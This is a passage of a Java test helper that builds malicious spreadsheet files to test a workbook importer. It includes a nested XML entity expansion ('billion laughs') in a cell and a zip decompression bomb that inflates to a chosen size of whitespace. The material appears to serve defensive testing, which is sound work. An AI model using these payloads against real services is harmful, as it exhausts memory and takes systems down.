            for (int i = 1; i <= 9; i++) {
                dtd.append("<!ENTITY l").append(i).append(" \"").append(("&l" + (i - 1) + ";").repeat(10)).append("\">");
            }
            dtd.append("]>");
            return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>" + dtd + SHEET_OPEN + row(1, "Organisation Name", "Contact Email")
                    + row(2, "&l9;", "a@x.co.za") + "</sheetData></worksheet>";
        }

        static byte[] workbook(String sheetXml) {
            return zip(out -> out.write(utf8(sheetXml)));
        }

        /** A workbook whose sheet part inflates to {@code bytes} of whitespace inside sheetData. */
        static byte[] bomb(int bytes) {
            return zip(out -> {
                out.write(utf8("<?xml version=\"1.0\" encoding=\"UTF-8\"?>" + SHEET_OPEN + row(1, "Organisation Name", "Contact Email")));
                byte[] blank = new byte[1 << 20];
                java.util.Arrays.fill(blank, (byte) ' ');
                for (int written = 0; written < bytes; written += blank.length) {
                    out.write(blank);
                }
                out.write(utf8(row(2, "Atlas Aero", "a@x.co.za") + "</sheetData></worksheet>"));
            });
        }

        interface SheetWriter {
            void write(java.io.OutputStream out) throws java.io.IOException;
        }

        static byte[] zip(SheetWriter sheet) {
            java.io.ByteArrayOutputStream bytes = new java.io.ByteArrayOutputStream();
            try (java.util.zip.ZipOutputStream zip = new java.util.zip.ZipOutputStream(bytes)) {
                zip.setLevel(9);
                for (String[] part : new String[][] {{"[Content_Types].xml", CONTENT_TYPES}, {"_rels/.rels", RELS},
                        {"xl/workbook.xml", WORKBOOK}, {"xl/_rels/workbook.xml.rels", WORKBOOK_RELS}}) {
                    zip.putNextEntry(new java.util.zip.ZipEntry(part[0]));
                    zip.write(utf8(part[1]));
                    zip.closeEntry();
                }
                zip.putNextEntry(new java.util.zip.ZipEntry("xl/worksheets/sheet1.xml"));
                sheet.write(zip);
                zip.closeEntry();
            } catch (java.io.IOException e) {
                throw new IllegalStateException(e);
            }
            return bytes.toByteArray();
        }

        /** The text of one part of a workbook, or "" when it has none (read by its central directory, as Excel does). */
        static String part(byte[] xlsx, String name) throws java.io.IOException {
            java.nio.file.Path file = java.nio.file.Files.createTempFile("export-", ".xlsx");
            try {
                java.nio.file.Files.write(file, xlsx);
                try (java.util.zip.ZipFile zip = new java.util.zip.ZipFile(file.toFile())) {
                    java.util.zip.ZipEntry e = zip.getEntry(name);
                    return e == null ? "" : new String(zip.getInputStream(e).readAllBytes(), StandardCharsets.UTF_8);
                }
            } finally {
                java.nio.file.Files.deleteIfExists(file);
            }
        }
    }
}
